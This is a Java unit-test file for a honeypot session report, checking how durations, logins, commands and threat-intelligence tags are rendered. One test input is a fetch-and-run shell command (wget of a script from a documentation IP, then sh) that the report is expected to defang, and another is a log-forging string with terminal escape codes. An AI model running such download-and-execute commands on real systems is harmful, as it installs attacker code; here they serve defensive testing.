package io.github.cowriekit.report.diary;

import static io.github.cowriekit.report.diary.DiaryBlocks.block;
import static io.github.cowriekit.report.diary.DiaryBlocks.label;
import static io.github.cowriekit.report.fixtures.Diary.command;
import static io.github.cowriekit.report.fixtures.Diary.found;
import static io.github.cowriekit.report.fixtures.Diary.notFound;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Login;
import io.github.cowriekit.model.PublicKey;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionBuilder;
import io.github.cowriekit.model.SessionEnd;
import io.github.cowriekit.model.intel.EnrichedSession;
import io.github.cowriekit.model.intel.Observable;
import io.github.cowriekit.model.intel.urlhaus.UrlhausHostFacts;
import io.github.cowriekit.report.Reports;
import io.github.cowriekit.report.fixtures.Diary;
import io.github.cowriekit.report.fixtures.WrittenReports;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class DiaryBlockTest {
    private static final String SOURCE = "192.0.2.7";
    private static final Instant AT = Instant.parse("2023-05-24T06:23:58Z");

    private final SessionBuilder session = Diary.session("aaaaaaaaaaaa", SOURCE, SessionEnd.CLOSED);

    @Nested
    class Durations {
        @ParameterizedTest
        @CsvSource({
            "PT123456.789S, 123456.789 seconds",
            "PT1000.5S, 1000.50 seconds",
            "PT0.00001S, 0.000 seconds",
            "PT245.4S, 245.40 seconds",
            "PT1.234567S, 1.235 seconds",
            "PT10S, 10.00 seconds",
            "PT100000S, 100000.00 seconds",
            "PT0S, 0.00 seconds",
            "PT10.396132707S, 10.396 seconds",
            "PT-1.5S, -1.50 seconds"
        })
        void areInMillisecondsAndWithoutExponent(Duration duration, String shown) {
            assertThat(block(session.duration(duration))).contains("Session Duration  " + shown + "\n");
        }

        @Test
        void thatWereComputedSaySo() {
            assertThat(block(session.duration(Duration.ofMillis(3120)).durationDerived(true)))
                    .contains("Session Duration  3.12 seconds (derived)\n");
        }

        @Test
        void thatAreMissingSaySo() {
            assertThat(block(session)).contains("Session Duration  not logged\n");
        }
    }

    @Nested
    class Logins {
        @Test
        void byPublicKeyAreReported() {
            Login login = Login.builder()
                    .at(AT)
                    .username("git")
                    .publicKey(new PublicKey("ssh-ed25519", "5c:6b:8f:2f", "ssh-ed25519 AAAA"))
                    .success(true)
                    .build();
            assertThat(block(session.logins(List.of(login))))
                    .contains("Username  git\n")
                    .contains("Public Key  ssh-ed25519 5c:6b:8f:2f\n")
                    .contains("Timestamp  2023-05-24T06:23:58.000000Z\n")
                    .doesNotContain("Password");
        }

        @Test
        void thatFailedAreCounted() {
            assertThat(block(session.logins(List.of(login("a", "1", false), login("b", "2", false)))))
                    .contains("Username  b\n")
                    .contains("Password  2\n")
                    .contains("Login  failed (2 attempts)\n")
                    .doesNotContain("Login Attempts");
            assertThat(block(session.logins(List.of(login("a", "1", false))))).contains("Login  failed (1 attempt)\n");
        }

        @Test
        void showTheFirstThatSucceeded() {
            assertThat(block(session.logins(
                            List.of(login("a", "1", false), login("b", "2", true), login("c", "3", false)))))
                    .contains("Username  b\n")
                    .contains("Password  2\n")
                    .contains("Login Attempts  3 (2 failed)\n");
        }

        @Test
        void onlyOneNeedsNoCount() {
            assertThat(block(session.logins(List.of(login("a", "1", true)))))
                    .doesNotContain("Login Attempts")
                    .doesNotContain("Login  ");
        }

        @Test
        void thatNeverCameAreSaidToBeNone() {
            assertThat(block(session.startedAt(AT)))
                    .contains("Login  none\n")
                    .contains("Timestamp  2023-05-24T06:23:58.000000Z\n")
                    .doesNotContain("Username");
        }

        @Test
        void tellAnEmptyPasswordFromNone() {
            assertThat(block(session.logins(List.of(login("", "", true)))))
                    .contains("  Username\n")
                    .contains("  Password\n");
            assertThat(block(
                            session.logins(List.of(Login.builder().success(true).build()))))
                    .contains("Username  not logged\n")
                    .contains("Password  not logged\n")
                    .contains("Timestamp  not logged\n");
        }
    }

    @Nested
    class Commands {
        @Test
        void areCountedOnceAndTheFailedOnesApart() {
            List<Command> commands = List.of(new Command(null, "lockr", true, null), command("w"));
            assertThat(block(session.commands(commands))).contains("Total Commands Run  2 (1 failed)\n");
        }

        @Test
        void areCountedWithoutAnySource() {
            assertThat(block(session)).contains("Total Commands Run  0\n");
        }

        @Test
        void cannotForgeASession() {
            String forged = "ls\n\n\n" + "X".repeat(96) + "\n\n" + " ".repeat(23) + "Session  0123456789ab\r\n# rm";
            String text = block(session.commands(List.of(command(forged), command("\u001b]0;x\u0007\u009b2J"))));
            assertThat(text.lines().filter(line -> line.equals("X".repeat(96)))).hasSize(1);
            assertThat(text.lines().filter(line -> line.stripLeading().startsWith("Session  ")))
                    .hasSize(1);
            assertThat(text).contains("# $'\\x1b]0;x\\x07\\u009b2J'\n");
            assertThat(text.chars().filter(c -> (c < ' ' && c != '\n') || (c >= 0x7f && c < 0xa0)))
                    .isEmpty();
        }

        @Test
        void ofManyLinesStayOnOneLine() {
            assertThat(block(session.commands(List.of(command("cd /tmp\nwget http://192.0.2.1/x.sh\nsh x.sh")))))
                    .contains("# $'cd /tmp\\nwget http[://]192[.]0[.]2[.]1/x.sh\\nsh x.sh'\n");
        }

        @Test
        void thatWereCutByALimitAreCounted() {
            assertThat(block(session.commands(List.of(command("a"))).truncated(Map.of("commands", 26_742L))))
                    .contains("Total Commands Run  26743\n")
                    .contains("Cut By Limits  commands 26742\n")
                    .contains("# a\n… and 26742 more commands\n");
        }

        @Test
        void leaveNoSpaceBehindAnEmptyLine() {
            assertThat(block(session.commands(List.of(command(""))))).contains("\n#\n");
        }
    }

    @Test
    void saysNothingOfSourcesThatNobodyAsked() {
        assertThat(block(session))
                .doesNotContain("URLhaus")
                .doesNotContain("ASNAME")
                .doesNotContain("VT ")
                .doesNotContain("SPUR");
    }

    @Test
    void survivesASessionOfWhichNothingIsKnown() {
        Session bare = Session.builder("aaaaaaaa", SessionEnd.EVICTED).build();
        assertThat(WrittenReports.write(
                        Reports.diary().summary(false).withFailedLogins(), List.of(EnrichedSession.of(bare))))
                .startsWith("aaaaaaaa\nFrom           not logged\n")
                .contains(label("Session") + "  aaaaaaaa\n")
                .contains("Protocol  not logged\n")
                .contains("Source IP Address  not logged\n")
                .contains("COMMANDS ATTEMPTED");
    }

    @Test
    void showsAnAnonymisedSourceAsItIs() {
        Session anonymous = session.source(new Endpoint("ab".repeat(32), null)).build();
        assertThat(WrittenReports.write(Reports.diary().withFailedLogins(), List.of(EnrichedSession.of(anonymous))))
                .contains("Source IP Address  " + "ab".repeat(32) + "\n");
    }

    @Test
    void sortsTagsSoThatReportsCanBeCompared() {
        UrlhausHostFacts facts = UrlhausHostFacts.builder()
                .urlCount(2L)
                .urls(List.of(
                        new UrlhausHostFacts.Url(
                                null, null, null, null, null, null, null, null, null, List.of("mirai", "elf")),
                        new UrlhausHostFacts.Url(
                                null, null, null, null, null, null, null, null, null, List.of("elf", "32-bit"))))
                .build();
        assertThat(block(session, found("urlhaus", Observable.ip(SOURCE), facts)))
                .contains("URLhaus IP Tags  32-bit, elf, mirai\n")
                .contains("URLhaus Malware URLs  2\n");
    }

    @Test
    void asksAboutADownloadHostItselfAndLabelsNamesAsAddresses() {
        Download file = Download.builder(FileOrigin.URL)
                .url("http://files.example/x")
                .host("files.example")
                .build();
        UrlhausHostFacts facts = UrlhausHostFacts.builder()
                .urls(List.of(new UrlhausHostFacts.Url(
                        null, null, null, null, null, null, null, null, null, List.of("mozi"))))
                .build();
        assertThat(block(
                        session.downloads(List.of(file)),
                        notFound("urlhaus", Observable.ip(SOURCE)),
                        found("urlhaus", Observable.host("files.example"), facts)))
                .contains("Source IP Address  " + SOURCE + "\n" + label("URLhaus IP Tags") + "  not listed\n")
                .contains("Download Source Address  files.example\n" + label("URLhaus IP Tags") + "  mozi\n");
    }

    private static Login login(String username, String password, boolean success) {
        return Login.builder()
                .at(AT)
                .username(username)
                .password(password)
                .success(success)
                .build();
    }
}
